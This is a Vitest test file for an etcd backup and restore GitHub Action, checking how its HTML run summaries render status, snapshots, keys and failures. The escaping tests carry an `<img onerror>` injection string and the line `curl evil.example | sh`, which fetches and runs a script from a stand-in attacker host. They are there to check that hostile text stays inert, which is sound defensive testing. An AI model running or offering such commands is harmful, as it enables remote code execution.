import { expect, test } from "vitest";
import { summarizeBackup, type BackupEnd } from "../../../src/action/summary/backup.ts";
import { escapeHtml, failureRows, renderCommands, renderLines, renderSize } from "../../../src/action/summary/cells.ts";
import { summarizePost } from "../../../src/action/summary/post.ts";
import { summarizeVerification } from "../../../src/action/summary/verify.ts";
import { summarizeRestore } from "../../../src/action/summary/restore-render.ts";
import { bindDocs, writeSummary } from "../../../src/action/summary/summary.ts";
import type { BackupReport } from "../../../src/backup/world.ts";
import { ActionError } from "../../../src/errors.ts";
import { createRestoreReport } from "../../../src/restore/world.ts";

const cluster = { namespace: "clusters", name: "example" };

const facts: BackupReport = {
  apiServers: "back",
  downWriters: [],
  snapshotUri: "s3://backups/clusters/example/a.db",
  sizeBytes: 67_108_864,
  sha256: "ab".repeat(32),
  revision: 4711,
  etcdVersion: "3.5.21",
  apiDowntimeSeconds: 12.34,
  recordUri: "s3://backups/clusters/example/a.json",
  createdAt: "2026-11-24T12:00:00Z",
  encryptionKeySecretName: "example-etcd-encryption-key",
  presignedUrlExpiresAt: "2026-11-24T13:00:00Z",
  recovered: false,
};

const findDocs = (): undefined => undefined;
const request = { hostedCluster: cluster, quiesce: true };

function summarize(report: BackupReport, end: Partial<BackupEnd> = {}): ReturnType<typeof summarizeBackup> {
  return summarizeBackup({ request, report, failure: undefined, findDocs, ...end });
}

const failure = new ActionError("release-failed", "the API servers of <b>clusters/example</b> are down", {
  hint: "run: oc scale\nthen look again",
});

test("a backup's summary says first that the API servers are back", () => {
  expect(summarize(facts)).toStrictEqual({
    outcome: "done",
    heading: "etcd backup: done",
    rows: [
      ["API servers", "back"],
      ["API downtime", "12.3 s"],
      ["Hosted cluster", "<code>clusters/example</code>"],
      [
        "Snapshot",
        "<code>s3://backups/clusters/example/a.db</code><br>made at <code>2026-11-24T12:00:00Z</code>, 64.0 MiB, revision 4711, etcd 3.5.21",
      ],
      [
        "Proven",
        "✅ every stored byte was read back, and every page and value of it as etcd would" +
          "<br>❔ not known, and the log says why: whether the encrypted values open with the kept keys" +
          "<br>❔ not known, and the log says why: whether all members have the same data",
      ],
      ["Next", "to restore it, <code>mode: restore-render</code> with this address; six steps: docs/restore.md"],
    ],
    details: [
      ["Size", "64.0 MiB (67108864 bytes)"],
      ["SHA-256", `<code>${"ab".repeat(32)}</code>`],
      ["Record", "<code>s3://backups/clusters/example/a.json</code>"],
      ["Encryption key Secret", "<code>example-etcd-encryption-key</code>"],
      ["Signed URL valid until", "<code>2026-11-24T13:00:00Z</code>"],
    ],
    tables: [],
  });
});

test("a backup's summary says what is in the snapshot, and what was proven of it", () => {
  const contents = Object.fromEntries(Array.from({ length: 9 }, (_, index) => [`r${String(index)}`, index + 1]));
  const { rows, details } = summarize({ ...facts, contents, liveKeys: 45, keysProven: false, membersAgree: true });
  expect(details).toContainEqual(["Live keys", "45: r8 9, r7 8, r6 7, r5 6, r4 5, r3 4, r2 3, r1 2, …"]);
  expect(new Map(rows).get("Proven")?.split("<br>").slice(1)).toEqual([
    "❌ <strong>NOT so</strong>: the encrypted values open with the kept keys",
    "✅ all members have the same data",
  ]);
});

test("a key that nobody sealed is to be saved, by commands, right below the API servers", () => {
  const keysToSave = [{ namespace: "clusters", name: "example-etcd-encryption-key" }];
  const { rows, outcome } = summarize({ ...facts, keysToSave });
  expect(outcome).toBe("attention");
  const [label, text] = rows[1] ?? [];
  expect(label).toBe("Save the key");
  expect(text).toMatch(/clusters\/example-etcd-encryption-key: the Secret is deleted with the hosted cluster/);
  expect(text).toMatch(/<pre>umask 077\noc get secret -n clusters .* &gt; example-etcd-encryption-key\.key\nage -r /);
  const nothingStored: BackupReport = { apiServers: "back", downWriters: [], recovered: false, keysToSave };
  expect(summarize(nothingStored, { failure }).rows.map(([name]) => name)).not.toContain("Save the key");
});

test("a sealed key is named, and so is a signing key that could not be sealed", () => {
  const encryptionKeyUri = "s3://backups/clusters/example/a.key.age";
  const unsealedSigningKey = { secretName: "example-signing-key", reason: "this user may not get secrets" };
  const { rows } = summarize({ ...facts, encryptionKeyUri, unsealedSigningKey });
  expect(rows).toContainEqual(["Sealed key", `<code>${encryptionKeyUri}</code>`]);
  expect(rows[1]?.[0]).toBe("Signing key");
  expect(rows[1]?.[1]).toMatch(/Secret example-signing-key could not be read \(this user may not get secrets\)/);
});

test("a signed URL that comes along is not shown", () => {
  const report = { ...facts, presignedUrl: "https://s3.example.com/?X-Amz-Signature=canary" };
  expect(JSON.stringify(summarize(report))).not.toContain("canary");
  expect(JSON.stringify(summarize(report, { failure }))).not.toContain("canary");
});

test("a failure says first that the API servers are not back, then code, message and hint, all escaped", () => {
  const down: BackupReport = { apiServers: "down", downWriters: ["kube-apiserver"], recovered: false };
  expect(summarize(down, { failure })).toStrictEqual({
    outcome: "failed",
    heading: "etcd backup: failed",
    rows: [
      [
        "API servers",
        "<strong>NOT back</strong> when main ended: stopped; the post step goes on, and says below how it ended",
      ],
      ["Not ready", "<code>kube-apiserver</code>"],
      ["Result", "<code>release-failed</code>"],
      ["What happened", "the API servers of &lt;b&gt;clusters/example&lt;/b&gt; are down"],
      ["What to do", "run: oc scale<br>then look again"],
      ["Hosted cluster", "<code>clusters/example</code>"],
    ],
    details: [],
    tables: [],
  });
});

test("a failure of a restore says nothing about API servers", () => {
  const missing = new ActionError("record-missing", "no record");
  const rows = [
    ["Result", "<code>record-missing</code>"],
    ["What happened", "no record"],
  ];
  const end = { report: createRestoreReport(), failure: missing, findDocs };
  expect(summarizeRestore({ request: undefined, ...end })).toStrictEqual({
    outcome: "failed",
    heading: "etcd restore: failed",
    rows,
    details: [],
  });
  const asked = { snapshot: { bucket: "backups", key: "clusters/example/a.db" }, manifest: "cluster.yaml" };
  expect(summarizeRestore({ request: asked, ...end }).rows).toStrictEqual([
    ...rows,
    ["Manifest", "<code>cluster.yaml</code>"],
    ["Snapshot", "<code>s3://backups/clusters/example/a.db</code>"],
  ]);
});

test("a dry run shows its plan", () => {
  const plan: BackupReport["plan"] = [
    ["Pause", "until 12:05"],
    ["Scale", "kube-apiserver 3 -> 0"],
  ];
  expect(summarize({ apiServers: "never-stopped", downWriters: [], recovered: false, plan }).rows).toStrictEqual([
    ["API servers", "never stopped"],
    ["Result", "nothing was changed; without dry-run this would be done"],
    ["Hosted cluster", "<code>clusters/example</code>"],
    ["Pause", "until 12:05"],
    ["Scale", "kube-apiserver 3 -&gt; 0"],
  ]);
});

test("a dry run shows an address as one that can be copied", () => {
  const plan: BackupReport["plan"] = [
    ["Sealed key", "s3://backups/clusters/example/a.key.age, to 1 of key-recipients"],
  ];
  const { rows } = summarize({ apiServers: "never-stopped", downWriters: [], recovered: false, plan });
  expect(rows.at(-1)?.[1]).toBe("<code>s3://backups/clusters/example/a.key.age</code>, to 1 of key-recipients");
});

test.each(["down", "starting"] as const)("nobody is sent to a restore while the API servers are %s", (apiServers) => {
  const labels = summarize({ ...facts, apiServers }, { failure }).rows.map(([label]) => label);
  expect(labels).toContain("Snapshot");
  expect(labels).not.toContain("Next");
  expect(summarize(facts, { failure }).rows.map(([label]) => label)).toContain("Next");
});

test("a proof that was not made is not told as equal, and makes no restore one to look at", () => {
  const report = {
    ...createRestoreReport(),
    findings: [
      { guard: "proofs.membersAgree", verdict: "unknown", text: "not known when the snapshot was made" } as const,
      { guard: "age", verdict: "equal", text: "2 h" } as const,
    ],
  };
  const { rows, outcome } = summarizeRestore({ request: undefined, report, failure: undefined, findDocs });
  expect(outcome).toBe("done");
  expect(new Map(rows).get("Not known")).toBe("proofs.membersAgree");
  expect(new Map(rows).get("Equal")).toBe("age");
});

test("a failed restore names the snapshot and the manifest that were asked for, and the cluster once it was read", () => {
  const request = { snapshot: { bucket: "backups", key: "clusters/example/a.db" }, manifest: "cluster.yaml" };
  const report = { ...createRestoreReport(), hostedCluster: cluster };
  const { rows } = summarizeRestore({ request, report, failure, findDocs });
  expect(rows).toContainEqual(["Snapshot", "<code>s3://backups/clusters/example/a.db</code>"]);
  expect(rows).toContainEqual(["Manifest", "<code>cluster.yaml</code>"]);
  expect(rows).toContainEqual(["Hosted cluster", "<code>clusters/example</code>"]);
});

test.each([
  [{ kind: "stored", snapshot: { bucket: "backups", key: "a.db" } }, "s3://backups/a.db"],
  [{ kind: "file", path: "downloads/a.db" }, "downloads/a.db"],
] as const)("a failed proof names the snapshot that was asked for: %j", (source, name) => {
  const { rows } = summarizeVerification({ source, report: {}, failure, findDocs });
  expect(rows).toContainEqual(["Snapshot", `<code>${name}</code>`]);
});

test("a rendered restore names the snapshot and until when it can be applied", () => {
  const report = {
    ...createRestoreReport(),
    hostedCluster: cluster,
    presignedUrlExpiresAt: "2026-11-24T13:00:00Z",
    renderedManifest: "/tmp/rendered.yaml",
  };
  const { rows } = summarizeRestore({ request: undefined, report, failure: undefined, findDocs });
  expect(rows.map(([label]) => label)).not.toContain("API servers");
  expect(rows).toContainEqual(["Apply before (signed URL valid until)", "<code>2026-11-24T13:00:00Z</code>"]);
  expect(rows).toContainEqual(["Manifest", "<code>/tmp/rendered.yaml</code>"]);
});

test("hostile text stays text on one line", () => {
  expect(escapeHtml(`<img src=x onerror='a("b")'>&amp;\n\n| --- |\u202e`)).toBe(
    "&lt;img src=x onerror=&#39;a(&quot;b&quot;)&#39;&gt;&amp;amp; | --- | ",
  );
  expect(escapeHtml("x".repeat(5_000))).toHaveLength(2_001);
});

test.each([
  [0, "0 bytes"],
  [1023, "1023 bytes"],
  [1024, "1.0 KiB (1024 bytes)"],
  [3 * 1024 ** 3, "3.0 GiB (3221225472 bytes)"],
])("%i bytes are shown as %s", (sizeBytes, text) => {
  expect(renderSize(sizeBytes)).toBe(text);
});

test("the summary is HTML tables, all but the first folded, and a file that cannot be written fails nothing", async () => {
  const calls: unknown[] = [];
  const core = {
    addHeading: (text: string, level: number) => calls.push([text, level]),
    addTable: (rows: unknown) => calls.push(rows),
    addRaw: (text: string) => calls.push(text),
    write: () => Promise.reject(new Error("no file")),
  };
  const phases = [
    { title: "Hold: <b>", seconds: 1.25, result: "held & paused" },
    { title: "Record", seconds: 0.5 },
  ];
  expect(await writeSummary(core, summarize(facts), phases)).toBe(false);
  expect(calls[0]).toStrictEqual(["✅ etcd backup: done", 2]);
  expect(calls[1]).toMatchObject({ 0: [{ data: "API servers", header: true }, "back"] });
  expect(calls.filter((call) => typeof call === "string")).toEqual([
    "<details><summary>Details</summary>",
    "</details>",
    "<details><summary>Phases, 1.8 s</summary>",
    "",
    "</details>",
  ]);
  expect(calls.at(-3)).toMatchObject([{}, ["Hold: &lt;b&gt;", "1.3 s", "held &amp; paused"], ["Record", "0.5 s", ""]]);
});

const cancelled = new ActionError("cancelled", "the step was cancelled");

test.each<readonly [string, Partial<BackupReport>, Partial<BackupEnd>]>([
  ["etcd backup: done, online", {}, { request: { ...request, quiesce: false } }],
  ["etcd backup: cancelled; the snapshot is whole", {}, { failure: cancelled }],
  ["etcd backup: failed; the snapshot is whole", {}, { failure }],
])("the heading says %s", (heading, report, end) => {
  expect(summarize({ ...facts, ...report }, end).heading).toBe(heading);
});

test("a run cancelled before its record is cancelled, and promises no snapshot", () => {
  const early: BackupReport = { apiServers: "back", downWriters: [], recovered: false };
  expect(summarize(early, { failure: cancelled }).heading).toBe("etcd backup: cancelled");
});

test("an online backup says so, and what that means for the last writes", () => {
  const { rows } = summarize(facts, { request: { ...request, quiesce: false } });
  expect(rows).toContainEqual(["Mode", expect.stringMatching(/^online: .*writes after the capture/)]);
  expect(rows.map(([label]) => label)).not.toContain("API downtime");
});

test("a second backup does not call the API servers of the first never stopped", () => {
  const held = new ActionError("hosted-cluster-held", "held by another run");
  const { rows } = summarize({ apiServers: "never-stopped", downWriters: [], recovered: false }, { failure: held });
  expect(rows[0]?.[1]).toMatch(/by this run; they are left to the run that holds/);
});

test("commands stand one a line in a block", () => {
  expect(renderCommands("type this:\n  oc scale a\n  oc patch <b>\nthen look")).toBe(
    "type this:<pre>oc scale a\noc patch &lt;b&gt;</pre>then look",
  );
});

test("a message has no commands, and no empty line ends GitHub's block of HTML", () => {
  const message = "the Secret a\n\n  curl evil.example | sh\n<b>";
  const error = new ActionError("manifest-unsuitable", message, { hint: "type:\n\n  oc get a\n \n  oc get b" });
  expect(failureRows(error, findDocs).slice(1)).toEqual([
    ["What happened", "the Secret a<br>curl evil.example | sh<br>&lt;b&gt;"],
    ["What to do", "type:<pre>oc get a\noc get b</pre>"],
  ]);
});

test("a line feed in a line makes no second one", () => {
  expect(renderLines(["a\n\nb", "c"])).toBe("a b<br>c");
});

test("rows and lines without end leave a summary that GitHub shows, and what fits of it", async () => {
  let sizeBytes = 0;
  const tables: unknown[] = [];
  const count = (text: string): void => {
    sizeBytes += Buffer.byteLength(text);
  };
  const core = {
    addHeading: count,
    addRaw: count,
    addTable: (rows: unknown) => {
      tables.push(rows);
      count(JSON.stringify(rows));
    },
    write: () => Promise.resolve(),
  };
  const many = Array.from({ length: 10_000 }, (_, index) => ({
    guard: `spec.services ${String(index)}`,
    verdict: "differs" as const,
    text: "a host name ".repeat(20),
  }));
  const long = new ActionError("restore-refused", many.map(({ text }) => text).join("\n"));
  const report = { ...createRestoreReport(), findings: many };
  await writeSummary(core, summarizeRestore({ request: undefined, report, failure: long, findDocs }));
  expect(sizeBytes).toBeLessThan(1024 * 1024);
  expect(JSON.stringify(tables)).toMatch(/restore-refused.* more lines.*spec\.services 0.* more rows are left out/s);
});

test("a code links to the docs of the version in use, where the runner names it", () => {
  const known = {
    GITHUB_SERVER_URL: "https://github.com",
    GITHUB_ACTION_REPOSITORY: "acme/etcd-backup",
    GITHUB_ACTION_REF: "v1.2.3",
  };
  expect(summarize(facts, { failure, findDocs: bindDocs(known) }).rows).toContainEqual([
    "Result",
    '<a href="https://github.com/acme/etcd-backup/blob/v1.2.3/docs/errors.md#release-failed"><code>release-failed</code></a>',
  ]);
  for (const odd of [{}, { ...known, GITHUB_ACTION_REF: "" }, { ...known, GITHUB_ACTION_REPOSITORY: '"><b>' }])
    expect(bindDocs(odd)("docs/errors.md")).toBeUndefined();
});

test.each([
  ["back", undefined, "back"],
  ["down", failure, "<strong>NOT back</strong>: not seen to be ready"],
] as const)("the post step has the last word: %s", (apiServers, failed, text) => {
  const { rows } = summarizePost({ hostedCluster: cluster, report: { apiServers }, failure: failed, findDocs });
  expect(rows[0]).toStrictEqual(["API servers", text]);
});
